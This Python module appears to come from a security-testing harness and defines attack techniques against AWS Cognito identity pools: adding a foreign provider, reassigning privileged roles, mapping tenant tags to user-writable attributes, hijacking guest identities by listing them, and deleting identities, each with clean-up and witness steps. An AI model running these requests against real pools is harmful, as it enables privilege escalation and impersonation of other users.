"""Becoming somebody by administering the identity pool, with credentials that are meant for the application's data.

Whatever is changed is the pool that everybody uses, and is put back; who shows that the calls work at all is the
operator, at the identity pool of the outsiders.
"""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING, Any

from harness.attacks.become.session_tags import OPEN_ATTRIBUTE, by_open_attribute, tag_value
from harness.attacks.technique import Callers, ControlKind, Feature, Severity, Technique, Victim
from harness.blueprints.contract import Effect
from harness.targets.api import ApiRequest

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping, Sequence

    from harness.attacks.aim import Aim
    from harness.attacks.technique import Shows, Step
    from harness.targets.api import ApiResponse

_MODEL = "https://docs.aws.amazon.com/cognitoidentity/latest/APIReference/API_"
_PAGE = 60


def _pool(operation: str, **params: Any) -> ApiRequest:
    return ApiRequest("cognito-identity", operation, params)


def _with_outsiders(aim: Aim) -> tuple[Step, ...]:
    settings = aim.deployment.pool_settings["UpdateIdentityPool"]
    outsiders = {"ProviderName": aim.deployment.outsiders_provider, "ClientId": aim.deployment.outsiders_client}
    providers = [*settings["CognitoIdentityProviders"], outsiders]

    def logins() -> dict[str, str]:
        return {aim.deployment.outsiders_provider: aim.tokens.of_another_pool(aim.caller).reveal()}

    return (
        _pool("UpdateIdentityPool", **{**settings, "CognitoIdentityProviders": providers}),
        lambda _: _pool("GetId", IdentityPoolId=aim.deployment.identity_pool, Logins=logins()),
        lambda answer: _pool("GetCredentialsForIdentity", IdentityId=answer["IdentityId"], Logins=logins()),
    )


def _with_another_role(aim: Aim) -> tuple[Step, ...]:
    role = aim.privileged_role or aim.role_of_tenants
    roles = {"authenticated": role, "unauthenticated": role}
    logins = {aim.deployment.provider: aim.id_token.reveal()}
    return (
        _pool("SetIdentityPoolRoles", IdentityPoolId=aim.deployment.identity_pool, Roles=roles),
        lambda _: _pool("GetCredentialsForIdentity", IdentityId=aim.caller.identity_id, Logins=logins),
    )


def _with_tags_of_ones_own(aim: Aim) -> tuple[Step, ...]:
    return (
        _pool(
            "SetPrincipalTagAttributeMap",
            IdentityPoolId=aim.deployment.identity_pool,
            IdentityProviderName=aim.deployment.provider,
            UseDefaults=False,
            PrincipalTags=dict.fromkeys(aim.victims_tags, OPEN_ATTRIBUTE),
        ),
        *by_open_attribute(aim, tag_value(aim)),
    )


def _listed_guest(aim: Aim) -> tuple[Step, ...]:
    def as_the_guest(answer: Mapping[str, Any]) -> ApiRequest:
        guests = [each["IdentityId"] for each in answer["Identities"] if not each.get("Logins")]
        found = aim.victim.identity_id if aim.victim.identity_id in guests else next(iter(guests), "")
        return _pool("GetCredentialsForIdentity", IdentityId=found)

    return (_pool("ListIdentities", IdentityPoolId=aim.deployment.identity_pool, MaxResults=_PAGE), as_the_guest)


def _nobodys_identity(aim: Aim) -> tuple[ApiRequest, ...]:
    # Whether the call may be made shows on an identity that nobody has, so that nobody loses anything.
    nobody = f"{aim.deployment.region}:00000000-0000-4000-8000-000000000000"
    return (_pool("DeleteIdentities", IdentityIdsToDelete=[nobody]),)


def _as_made(operation: str) -> Callable[[Aim], tuple[ApiRequest, ...]]:
    """Return the clean-up that tells the identity pool again what it was told when it was made."""

    def requests(aim: Aim) -> tuple[ApiRequest, ...]:
        settings = aim.deployment.pool_settings.get(operation)
        return () if settings is None else (_pool(operation, **settings),)

    return requests


def _at_the_outsiders(operation: str, **params: Any) -> Callable[[Aim], tuple[ApiRequest, ...]]:
    return lambda aim: (_pool(operation, IdentityPoolId=aim.deployment.outsiders_identity_pool, **params),)


def _outsiders_updated(aim: Aim) -> tuple[ApiRequest, ...]:
    outsiders = {"ProviderName": aim.deployment.outsiders_provider, "ClientId": aim.deployment.outsiders_client}
    return _at_the_outsiders(
        "UpdateIdentityPool",
        IdentityPoolName=aim.deployment.name_of("outsiders"),
        AllowUnauthenticatedIdentities=False,
        CognitoIdentityProviders=[outsiders],
        AllowClassicFlow=True,
        # What is left out of this call is taken away.
        IdentityPoolTags=aim.deployment.marks.tags,
    )(aim)


def _outsiders_given_a_role(aim: Aim) -> tuple[ApiRequest, ...]:
    (given,) = _at_the_outsiders("SetIdentityPoolRoles", Roles={"authenticated": aim.deployment.witness_role})(aim)
    (shown,) = _at_the_outsiders("GetIdentityPoolRoles")(aim)
    return (given, shown)


def _outsiders_tagged(aim: Aim) -> tuple[ApiRequest, ...]:
    provider = aim.deployment.outsiders_provider
    tags = {"someone": OPEN_ATTRIBUTE}
    return _at_the_outsiders("SetPrincipalTagAttributeMap", IdentityProviderName=provider, PrincipalTags=tags)(aim)


def _last_answer_has(name: str) -> Shows:
    def shows(_: Aim, responses: Sequence[ApiResponse]) -> bool:
        return bool(responses[-1].data.get(name)) or (responses[-1].data.get(name) == [])

    return shows


_ADMINISTER = partial(
    Technique,
    plane="identity-pool",
    effect=Effect.SESSION,
    severity=Severity.BLOCKER,
    cwe=("CWE-269",),
    callers=Callers.MEMBERS,
    victim=Victim.NOBODY,
    control=ControlKind.WITNESS,
    first_step_decides=True,
)

TECHNIQUES = (
    _ADMINISTER(
        id="identity-pool.session.provider-added",
        title="registering a foreign user pool with the identity pool, then coming in with its token",
        operation="UpdateIdentityPool",
        documentation=f"{_MODEL}UpdateIdentityPool.html",
        catalogue=("idp-other-user-pool-as-provider",),
        requires=frozenset({Feature.IDENTITY_POOL}),
        actions=("cognito-identity:UpdateIdentityPool",),
        destructive=True,
        steps=_with_outsiders,
        clean_up=_as_made("UpdateIdentityPool"),
        operator_steps=_outsiders_updated,
        shows=_last_answer_has("CognitoIdentityProviders"),
    ),
    _ADMINISTER(
        id="identity-pool.session.roles-set",
        title="telling the identity pool to give everybody the staff's role, or else the members'",
        operation="SetIdentityPoolRoles",
        documentation=f"{_MODEL}SetIdentityPoolRoles.html",
        catalogue=("idp-authz-role-drift",),
        requires=frozenset({Feature.ENHANCED_FLOW, Feature.PERSONA_ROLE}),
        actions=("cognito-identity:SetIdentityPoolRoles", "iam:PassRole"),
        refusals=(r"Access to Role '.*' is forbidden",),
        destructive=True,
        steps=_with_another_role,
        clean_up=_as_made("SetIdentityPoolRoles"),
        operator_steps=_outsiders_given_a_role,
        shows=_last_answer_has("Roles"),
    ),
    _ADMINISTER(
        id="identity-pool.session.tags-mapped",
        title="mapping the tag that tells tenants apart to an attribute that users write themselves",
        operation="SetPrincipalTagAttributeMap",
        documentation=f"{_MODEL}SetPrincipalTagAttributeMap.html",
        catalogue=("idp-principal-tag-from-mutable-claim",),
        cwe=("CWE-269", "CWE-639"),
        requires=frozenset({Feature.ENHANCED_FLOW, Feature.PRINCIPAL_TAGS}),
        actions=("cognito-identity:SetPrincipalTagAttributeMap",),
        victim=Victim.SOMEBODY,
        victims=Callers.OWNERS,
        destructive=True,
        steps=_with_tags_of_ones_own,
        clean_up=_as_made("SetPrincipalTagAttributeMap"),
        operator_steps=_outsiders_tagged,
        shows=_last_answer_has("PrincipalTags"),
    ),
    _ADMINISTER(
        id="identity-pool.session.guest-found-by-listing",
        title="listing the identities of the pool, and becoming a guest among them",
        operation="ListIdentities",
        documentation=f"{_MODEL}ListIdentities.html",
        catalogue=("idp-guest-identity-id-is-bearer",),
        cwe=("CWE-200", "CWE-639"),
        requires=frozenset({Feature.GUESTS}),
        actions=("cognito-identity:ListIdentities",),
        victim=Victim.SOMEBODY,
        victims=Callers.GUESTS,
        callers=Callers.TENANTS,
        steps=_listed_guest,
        operator_steps=_at_the_outsiders("ListIdentities", MaxResults=_PAGE),
        shows=_last_answer_has("Identities"),
    ),
    _ADMINISTER(
        id="identity-pool.session.identities-deleted",
        title="deleting identities, so that their owners come back as somebody else",
        operation="DeleteIdentities",
        documentation=f"{_MODEL}DeleteIdentities.html",
        catalogue=("idp-authz-role-drift",),
        requires=frozenset({Feature.IDENTITY_POOL}),
        actions=("cognito-identity:DeleteIdentities",),
        destructive=True,
        steps=_nobodys_identity,
        operator_steps=_nobodys_identity,
        shows=_last_answer_has("UnprocessedIdentityIds"),
    ),
)
